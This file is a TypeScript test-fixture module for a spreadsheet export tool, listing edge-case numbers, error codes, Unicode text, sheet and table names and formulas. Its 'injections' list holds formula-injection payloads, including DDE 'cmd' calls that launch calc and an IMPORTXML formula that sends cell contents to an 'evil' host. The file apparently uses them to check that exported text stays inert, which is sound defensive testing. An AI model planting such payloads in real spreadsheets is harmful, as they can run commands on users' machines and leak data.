/** In every text that would do harm as a formula; no formula of ours holds it. */
export const INJECTED = 'evil';

/** Texts that become formulas, links or commands where a program takes them for typed. */
export const injections: readonly string[] = [
  `=cmd|'/c calc ${INJECTED}'!A1`, `=HYPERLINK("http://${INJECTED}.example","点我")`, `+1+cmd|'${INJECTED}'!A0`, `-2+3+cmd|' /C ${INJECTED}'!A0`, `@SUM(1+1)*cmd|'${INJECTED}'!A0`,
  `\t=1+1+N("${INJECTED}")`, `\r=1+1+N("${INJECTED}")`, `\n=1+N("${INJECTED}")`, ` =1+N("${INJECTED}")`, `'=1+N("${INJECTED}")`, `''${INJECTED}`, `=1+1 ${INJECTED}`, `=${INJECTED}`, `＝1+N("${INJECTED}")`,
  `=DDE("${INJECTED}";"x";"y")`, `=IMPORTXML(CONCAT("http://${INJECTED}/?v=",A1),"//a")`, `{=1+N("${INJECTED}")}`, `"=1+N(""${INJECTED}"")`, `;=1+N("${INJECTED}")`, `=1+N("${INJECTED}"),甲`,
];

export const strangeNumbers: readonly string[] = [
  '1E+308', '-1E+308', '-0', '4.9E-324', '1E+400', 'NaN', 'Infinity', '', 'abc', '0.1', '0.30000000000000004', '99999999999999.99', '9007199254740993', '1e15', '-1e300', '2958465', '2958466', '-1', '0.005', '60', '1E5', ' 12 ',
];

export const errorCodes: readonly string[] = ['#N/A', '#REF!', '#DIV/0!', '#VALUE!', '#NAME?', '#NUM!', '#NULL!', '#SPILL!', '#CALC!', '#GETTING_DATA', '#错误'];

export const strangeTexts: readonly string[] = [
  '', ' ', '\u00a0', '\u3000', '\u200b', '\ufeff', 'NaN', 'null', 'undefined', 'Infinity', '-Infinity', '１，２３４．５０', '２０２５年１２月３１日', '（１００．００）', '￥１００', 'ﾊﾝｶｸ', '😀👨‍👩‍👧‍👦', '\ud83d', 'שלום עולם', '\u202eabc\u202c', 'مرحبا',
  'a\u0301', '𠮷野家', '\u0001\u0002', '_x000D_', '_x0041_', '<b>&amp;</b>', ']]>', '"', "'", '\\', '%s%n', '${x}', '客户\n名称', '客户\t名称', '合计', '1/2/2025', '2025-13-45', 'TRUE', '真', '#N/A', '1e400', '0x1F', '١٢٣', '一百万', '甲'.repeat(2000),
];

/** Names that files hold, whether or not Excel would let anyone type them. */
export const sheetNames: readonly string[] = [
  '账龄明细 2025-12', '账龄分析 2025-12', '账龄分析', "O'Brien", "'quoted'", '[方括号]', 'a:b', 'a/b', 'a\\b', 'a?b*c', '=1+1', `=HYPERLINK("${INJECTED}")`, 'A1', 'R1C1', 'C', 'History', '2025', '1-2', '😀表', 'שלום',
  '应收明细 (2)', 'TRUE', '#REF!', '!', '$A$1', 'a&b<c>"d"', ' 前后空格 ', '甲'.repeat(31), 'x'.repeat(31), 'x'.repeat(255), '甲'.repeat(255), 'Sheet1', 'sheet1', '\u00a0', 'a\nb', '{表}', '表,表;表', 'Ａ１',
];

export const tableNames: readonly string[] = [
  'Table_1', '表.甲', '_t', '\\t', 'T😀', 'a b', 'A1', 'R', '表1', '应收', 'Table1', 'TABLE1', 'x'.repeat(255), 'x'.repeat(300), '1t', `=${INJECTED}`, '账龄明细', 'AR', 'AgingDetail',
];

export const formulas: readonly string[] = [
  '1/0', 'A1', 'SUM(A:A)', 'NOW()', 'TODAY()', 'RAND()', '[1]Sheet1!A1', "'[外部.xlsx]表'!A1", '_xlfn.XLOOKUP(1,A:A,B:B)', '_xlfn.FOO(1)', 'INDIRECT("A1")', 'OFFSET(A1,1,1)', 'IF(', '"', '=1', 'SUMIFS(H:H,B:B,"<>")',
  'Table1[金额]', 'NOTANAME', '#REF!', '没有!A1', 'SEQUENCE(3,3)', 'VLOOKUP("x",A:D,4,0)', 'TEXT(A1,"yyyy-mm-dd")', 'AR.AGING(A1)', '1E400', '{1,2;3,4}', 'A1:A3*2', 'LET(x,1,x+1)', '-"a"', 'REPT("甲",40000)',
];
